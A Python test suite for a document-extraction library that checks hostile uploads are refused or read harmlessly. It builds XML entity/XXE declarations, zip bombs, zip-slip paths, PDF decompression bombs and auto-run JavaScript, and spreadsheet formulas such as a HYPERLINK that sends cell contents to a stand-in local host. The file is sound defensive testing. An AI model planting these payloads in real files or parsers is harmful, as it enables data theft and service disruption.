"""Files that were made to do harm: each is refused in a sentence that says why, or taken without its sting."""

import asyncio
import io
import json
import struct
import zipfile
import zlib

import pytest
from shared_files import HOSTILE, needs_hostile_files

from kraftd_core.adapters.readers.common.reading import Refused
from kraftd_core.adapters.readers.local.extractor import LocalExtractor
from kraftd_core.adapters.readers.local.guards import check_office
from kraftd_core.desk.samples import make_sample
from kraftd_core.document.filenames import clean_name
from kraftd_core.document.jsontypes import without_row_ids
from kraftd_core.errors import DocumentRefused

pytestmark = pytest.mark.slow

INDEX = HOSTILE / "index.json"
CASES = json.loads(INDEX.read_text("utf-8")) if INDEX.exists() else []


def extract(content, name):
    return asyncio.run(LocalExtractor(parse_seconds=20).extract(content, clean_name(name), lambda _: None))


def refusal(content, name):
    with pytest.raises(DocumentRefused) as refused:
        extract(content, name)
    said = str(refused.value)
    assert said.endswith(".")
    assert "broke off" not in said
    return said


# The shared set

REASONS = {
    "entity_bomb.xlsx": "XML entities",
    "xxe_file.xlsx": "XML entities",
    "entity_bomb.docx": "XML entities",
    "zip_bomb.xlsx": "expands to more",
    "sparse_corner.xlsx": "sheet range is too large",
    "zip_slip.xlsx": "unsafe member names",
    "flate_bomb.pdf": "page content is too large",
    "pages_10k.pdf": "too many pages (10000)",
    "page_cycle.pdf": "damaged (page tree)",
    "encrypted_aes.pdf": "password protected",
    "truncated.pdf": "PDF is damaged",
    "pixels_400M.png": "too many pixels",
    "truncated.png": "damaged image",
    "exe_named.pdf": "not a PDF",
    "xlsx_named.docx": "is an Excel workbook",
    "unclosed_quote.csv": "unbalanced quote at line 2",
    "nan.json": "NaN and Infinity",
    "giant_int.json": "too long",
    "deep_array.json": "nested too deeply",
    "dup_keys.json": 'duplicate key "total"',
    "empty.pdf": "is empty",
}


@needs_hostile_files
@pytest.mark.parametrize("case", CASES or [None], ids=lambda case: ascii(case["file"]) if case else "none")
def test_each_hostile_file_has_the_outcome_that_its_index_asks_for(case):
    content = (HOSTILE / case["file"]).read_bytes()
    name = case.get("upload_as", case["file"])
    if case["file"] in REASONS:
        assert "rejected" in case["expected"]
        assert REASONS[case["file"]] in refusal(content, name)
    else:
        assert "accepted" in case["expected"]
        found = extract(content, name)
        assert "root:" not in json.dumps(found.data)
        assert json.dumps(found.data, allow_nan=False).encode()


@needs_hostile_files
def test_what_is_taken_from_the_hostile_files_is_what_stands_in_them():
    def data(name):
        return without_row_ids(extract((HOSTILE / name).read_bytes(), name).data)

    assert data("prompt_injection.pdf")["invoice_total"] == 100
    assert data("utf16_semicolon.csv")["rows"][0]["betrag"] == -1.5
    assert data("surrogate.json")["name"] == "a\ufffdb"
    assert data("formula_classic.csv")["rows"][0] == {
        "vendor": '=HYPERLINK("http://127.0.0.1:9/?"&A2,"click")',
        "amount": 10,
        "note": "=1+1",
    }
    assert data("legit_negative.csv")["rows"][1] == {"account": "B", "delta": -1200, "phone": "+1-202-555-0100", "id": "0007"}
    assert any("Formulas" in notice for notice in extract((HOSTILE / "formula_cells.xlsx").read_bytes(), "a.xlsx").notices)


@needs_hostile_files
def test_a_page_of_two_million_points_is_drawn_no_larger_than_a_screen():
    image = asyncio.run(LocalExtractor(parse_seconds=20).page_image((HOSTILE / "huge_page.pdf").read_bytes(), "huge_page.pdf", 1))
    width, height = struct.unpack(">II", image[16:24])
    assert width <= 1400
    assert height <= 2000


# Our own, so that they are tried everywhere


def archive(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in members.items():
            zipped.writestr(name, content)
    return out.getvalue()


def altered_sample(key, change):
    """A sample with its members changed by `change(name, content)`, which may give more of them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_sample(key))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            for changed_name, content in change(name, old.read(name)).items():
                new.writestr(changed_name, content)
    return out.getvalue()


def pdf_of(*objects, trailer=b""):
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))
    return out + head + table + end


def flate(content, levels=1):
    for _ in range(levels):
        content = zlib.compress(content, 9)
    return b"<</Length %d/Filter[%s]>>stream\n%s\nendstream" % (len(content), b"/FlateDecode " * levels, content)


CATALOGUE, ONE_PAGE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>"


def test_a_workbook_that_unpacks_to_too_much_is_refused():
    bomb = altered_sample(
        "boq", lambda name, content: {name: content + b" " * (130 * 2**20) if name.endswith("sheet1.xml") else content}
    )
    assert len(bomb) < 2**20
    assert "expands to more than the limit" in refusal(bomb, "a.xlsx")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_declared_entity_is_refused_in_any_encoding(encoding):
    declaration = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode(encoding)
    content = altered_sample(
        "boq", lambda name, content: {name: content, name + ".xml": declaration} if "styles" in name else {name: content}
    )
    assert "XML entities or a DTD" in refusal(content, "a.xlsx")
    assert "XML entities or a DTD" in refusal(
        altered_sample("quotation", lambda name, content: {name: declaration if name == "word/document.xml" else content}),
        "a.docx",
    )


DECLARATION = '<?xml version="1.0"?>{}<!DOCTYPE worksheet [<!ENTITY a "b">]><worksheet>&a;</worksheet>'


def at_the_door(content):
    """What is said before any parser sees the file; nothing if it is let in."""
    try:
        check_office(content)
    except Refused as refused:
        return str(refused)
    return ""


def with_member(name, content, sample="boq", part="styles"):
    """A sample with one more member."""
    return altered_sample(sample, lambda member, old: {member: old} | ({name: content} if part in member else {}))


NAMES = ["xl/worksheets/sheet1.dat", "xl/media/image1.png", "xl/media/image1.svg", "x", "xl/a.bin", "xl/A.XML "]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("name", NAMES)
def test_a_declared_entity_is_refused_whatever_the_member_is_called(name, encoding):
    assert "XML entities or a DTD" in at_the_door(with_member(name, DECLARATION.format("").encode(encoding)))


def test_a_sheet_of_another_name_that_the_workbook_leads_to_is_refused():
    """The workbook's own sheet, moved to a name that no guard would take for XML."""

    def moved(name, content):
        if name == "xl/worksheets/sheet1.xml":
            return {"xl/worksheets/sheet1.dat": content.replace(b"<worksheet", b"<!DOCTYPE w [<!ENTITY a 'b'>]><worksheet", 1)}
        return {name: content.replace(b"sheet1.xml", b"sheet1.dat")}

    assert "XML entities or a DTD" in refusal(altered_sample("boq", moved), "a.xlsx")


@pytest.mark.parametrize("length", [2**18 - 40, 2**18 - 9, 2**18 - 5, 2**18 - 1, 2**18, 3 * 2**18 - 30])
def test_a_declared_entity_is_found_wherever_it_stands_in_a_member(length):
    head = "<!--" + "x" * length + "-->"
    assert "XML entities or a DTD" in at_the_door(with_member("xl/p.dat", DECLARATION.format(head).encode()))


@pytest.mark.parametrize("seen", range(1, 9))
def test_a_lone_type_that_begins_in_one_piece_and_ends_in_the_next_is_found(seen):
    head = '<?xml version="1.0"?><!--'
    filler = "x" * (2**18 - seen - len(head) - len("-->"))
    content = f'{head}{filler}--><!DOCTYPE worksheet SYSTEM "x.dtd"><worksheet/>'.encode()
    assert content[2**18 - seen :].startswith(b"<!DOCTYPE")
    assert "XML entities or a DTD" in at_the_door(with_member("xl/p.dat", content))


def test_a_type_written_in_an_encoding_that_hides_it_is_refused():
    hidden = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY b "c">]><a>&b;</a>'
    assert b"<!" not in hidden
    assert "XML entities or a DTD" in refusal(hidden, "a.xml")


@pytest.mark.parametrize("hidden", [
    b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>", b"<!DOCTYPE svg SYSTEM 'x' [<!ENTITY a 'b'>]>", b"<!DOCTYPE svgx><svg/>",
    b"<!DOCTYPE worksheet SYSTEM 'http://127.0.0.1:9/x.dtd'><worksheet/>", b"<!DOCTYPE html><!ENTITY a 'b'>",
    b"<!DOCTYPE svg " + b" " * 5000 + b"[<!ENTITY a 'b'>]>",
])  # fmt: skip
def test_a_type_that_declares_more_than_a_picture_does_is_refused(hidden):
    assert "XML entities or a DTD" in at_the_door(with_member("xl/media/image1.svg", hidden))


@pytest.mark.parametrize("content", [
    b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    b"<!DOCTYPE html><html></html>", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100,
])  # fmt: skip
def test_a_picture_or_page_in_a_document_is_no_reason_to_refuse_it(content):
    assert at_the_door(with_member("xl/media/image1.svg", content)) == ""


@pytest.mark.parametrize("name", ["../evil.txt", "/etc/evil", "a\\..\\..\\evil", "C:evil"])
def test_a_member_that_points_outside_is_refused(name):
    content = altered_sample("boq", lambda member, content: {member: content} | ({name: b"x"} if "styles" in member else {}))
    assert "unsafe member names" in refusal(content, "a.xlsx")


def test_an_archive_of_no_known_kind_is_refused():
    assert "it is a ZIP archive" in refusal(archive(readme="x"), "a.xlsx")
    assert "it is a ZIP archive" in refusal(archive(readme="x"), "a.docx")


def test_an_office_file_with_a_damaged_part_is_refused():
    sample = bytearray(make_sample("boq"))
    at = sample.index(b"xl/worksheets/sheet1.xml") + 200
    sample[at : at + 50] = b"\x00" * 50
    assert "damaged" in refusal(bytes(sample), "a.xlsx")
    assert "damaged" in refusal(make_sample("boq")[:-200], "a.xlsx")


def test_a_value_in_the_far_corner_of_a_sheet_is_refused():
    from openpyxl import Workbook

    book = Workbook()
    book.worksheets[0]["A1"], book.worksheets[0]["XFD1048576"] = 1, 2
    out = io.BytesIO()
    book.save(out)
    assert "sheet range is too large" in refusal(out.getvalue(), "a.xlsx")


def test_a_locked_pdf_is_refused_and_one_that_only_forbids_printing_is_read():
    from pypdf import PdfReader, PdfWriter

    def locked(password):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_sample("invoice"))))
        writer.encrypt(password, owner_password="owner", algorithm="AES-256")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert "password protected" in refusal(locked("secret"), "a.pdf")
    assert extract(locked(""), "a.pdf").data["invoice_id"] == "BF-2026-1047"


def test_a_page_tree_that_goes_in_circles_is_refused():
    assert "damaged (page tree)" in refusal(pdf_of(CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), "a.pdf")


def test_a_pdf_with_too_many_pages_is_refused_before_they_are_read():
    many = pdf_of(
        CATALOGUE,
        b"<</Type/Pages/Kids[" + b" ".join(b"%d 0 R" % n for n in range(3, 304)) + b"]/Count 301>>",
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * 301,
    )
    assert "too many pages (301)" in refusal(many, "a.pdf")


@pytest.mark.parametrize("levels", [1, 2])
def test_a_page_that_inflates_to_too_much_is_refused_however_often_it_was_packed(levels):
    assert "page content is too large" in refusal(pdf_of(CATALOGUE, ONE_PAGE, PAGE, flate(b" " * (40 * 2**20), levels)), "a.pdf")


def test_a_form_within_a_form_that_inflates_to_too_much_is_refused():
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>>>"
    outer = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 5/Resources<</XObject<</B 6 0 R>>>>>>stream\n/B Do\nendstream"
    content = pdf_of(CATALOGUE, ONE_PAGE, page, b"<</Length 5>>stream\n/A Do\nendstream", outer, flate(b" " * (40 * 2**20)))
    assert "page content is too large" in refusal(content, "a.pdf")


def test_half_a_pdf_is_refused():
    sample = make_sample("invoice")
    assert "damaged" in refusal(sample[: len(sample) // 2], "a.pdf")


def png(width, height):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b"")


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked():
    assert "too many pixels (30,000 x 30,000)" in refusal(png(30_000, 30_000), "a.png")


def test_half_a_picture_is_refused():
    assert "damaged image" in refusal(make_sample("receipt")[:5_000], "a.png")


@pytest.mark.parametrize(
    ("content", "name", "reason"),
    [
        (b"MZ\x90\x00" + b"\x00" * 500, "a.pdf", "it is a program"),
        (b"hello, world", "a.pdf", "it is plain text"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "a.xlsx", "is damaged"),
        (b"%PDF-1.7", "a.csv", "it is a PDF"),
        (b"BM" + b"\x00" * 60, "a.csv", "it is a BMP image"),
        (b"x", "a.exe", "not read"),
        (b"x", "noending", "not read"),
        (b"", "a.csv", "is empty"),
        (bytes(range(256)) * 10, "a.csv", "is something else"),
        (make_sample("boq"), "a.docx", "is an Excel workbook"),
    ],
)
def test_a_name_that_does_not_say_what_the_content_is_is_refused(content, name, reason):
    assert reason in refusal(content, name)


@pytest.mark.ocr
def test_a_picture_under_the_ending_of_another_kind_of_picture_is_taken():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (80, 60), "white").save(out, "PNG")
    assert extract(out.getvalue(), "photo.jpg").page_count == 1


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b'{"total": NaN}', "NaN and Infinity"),
        (b"[-Infinity]", "NaN and Infinity"),
        (b'{"a": {"b": 1, "b": 2}}', 'duplicate key "b"'),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"a":' * 70 + b"1" + b"}" * 70, "nested too deeply"),
        (b"[" + b"9" * 5_000 + b"]", "too long"),
        (b"[1e400]", "too large"),
        (b"[1e-400]", "too large"),
        (b"[1.5" + b"0" * 400 + b"]", "too long"),
        (b'{"a": 1', "not valid JSON at line 1"),
        (b"{'a': 1}", "not valid JSON"),
        (b"42", "single value"),
        (b'{"a": "\xff"}', "UTF-8"),
    ],
)
def test_json_that_other_readers_would_change_in_silence_is_refused(content, reason):
    assert reason in refusal(content, "a.json")


def test_brackets_within_texts_are_no_depth():
    assert extract(json.dumps({"a": "[" * 5_000 + '"\\'}).encode(), "a.json").data["a"].startswith("[[[")


@pytest.mark.parametrize("content", [b'a,b\n"x,1\n', b'a,b\n"x"y,1\n', b"a,b\n" + b"x" * 200_000 + b",1\n"])
def test_a_csv_with_a_loose_quote_or_an_endless_field_is_refused_with_its_line(content):
    assert "unbalanced quote at line 2" in refusal(content, "a.csv")


def rows_of(content, name="a.csv"):
    return without_row_ids(extract(content, name).data)["rows"]


def test_cells_that_a_spreadsheet_would_reckon_with_are_taken_as_the_text_that_they_are():
    content = b'vendor,amount,note\n"=HYPERLINK(""http://127.0.0.1:9/"",""click"")",10,=1+1\n'
    assert rows_of(content) == [{"vendor": '=HYPERLINK("http://127.0.0.1:9/","click")', "amount": 10, "note": "=1+1"}]


def test_negative_amounts_telephone_numbers_and_leading_zeros_survive():
    rows = rows_of(b"account,delta,phone,id\nA,-5.25,+1-202-555-0100,0007\n")
    assert rows == [{"account": "A", "delta": -5.25, "phone": "+1-202-555-0100", "id": "0007"}]


def test_a_csv_of_another_encoding_and_separator_is_read():
    assert rows_of("name;betrag\nMühle;-1,50\n".encode("utf-16"))[0] == {"name": "Mühle", "betrag": -1.5}


def test_half_a_character_in_json_stands_as_the_sign_for_one():
    assert extract(rb'{"name": "a\ud800b"}', "a.json").data["name"] == "a\ufffdb"


def test_markup_in_json_stays_text():
    assert extract(b'{"name": "<script>alert(1)</script>"}', "a.json").data["name"] == "<script>alert(1)</script>"


def test_formulas_of_a_workbook_are_read_by_their_results_and_said_to_be_formulas():
    from openpyxl import Workbook

    book = Workbook()
    for row in (("Description", "Amount"), ("Flour", 3), ("Call", '=WEBSERVICE("http://127.0.0.1:9/")')):
        book.worksheets[0].append(row)
    out = io.BytesIO()
    book.save(out)
    found = extract(out.getvalue(), "a.xlsx")
    assert any("Formulas" in notice for notice in found.notices)
    assert "127.0.0.1" not in json.dumps(found.data)


def test_a_script_that_a_pdf_wants_to_run_on_opening_is_neither_run_nor_read():
    catalogue = CATALOGUE.replace(b">>", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>")
    page = PAGE.replace(b">>", b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>")
    text = b"BT /F 12 Tf 60 700 Td (Invoice No: 7) Tj 0 -20 Td (Total: 100.00) Tj ET"
    found = extract(pdf_of(catalogue, ONE_PAGE, page, b"<</Length %d>>stream\n%s\nendstream" % (len(text), text)), "a.pdf")
    assert found.data["invoice_total"] == 100
    assert "app.alert" not in json.dumps(found.data)


def test_a_workbook_behind_a_pdf_is_not_read():
    found = extract(make_sample("invoice") + make_sample("boq"), "a.pdf")
    assert without_row_ids(found.data) == without_row_ids(extract(make_sample("invoice"), "a.pdf").data)


@pytest.mark.parametrize("name", ["name_\u202efdp.exe.pdf", "../../etc/passwd.pdf", "C:\\temp\\a.pdf"])
def test_a_name_that_deceives_does_the_document_no_harm(name):
    assert extract(make_sample("invoice"), name).data["invoice_id"] == "BF-2026-1047"


def test_a_made_page_of_two_million_points_is_drawn_no_larger_than_a_screen():
    page = PAGE.replace(b"612 792", b"2000000 2000000")
    content = pdf_of(CATALOGUE, ONE_PAGE, page, b"<</Length 0>>stream\n\nendstream")
    image = asyncio.run(LocalExtractor(parse_seconds=20).page_image(content, "a.pdf", 1))
    width, height = struct.unpack(">II", image[16:24])
    assert width <= 1400
    assert height <= 2000
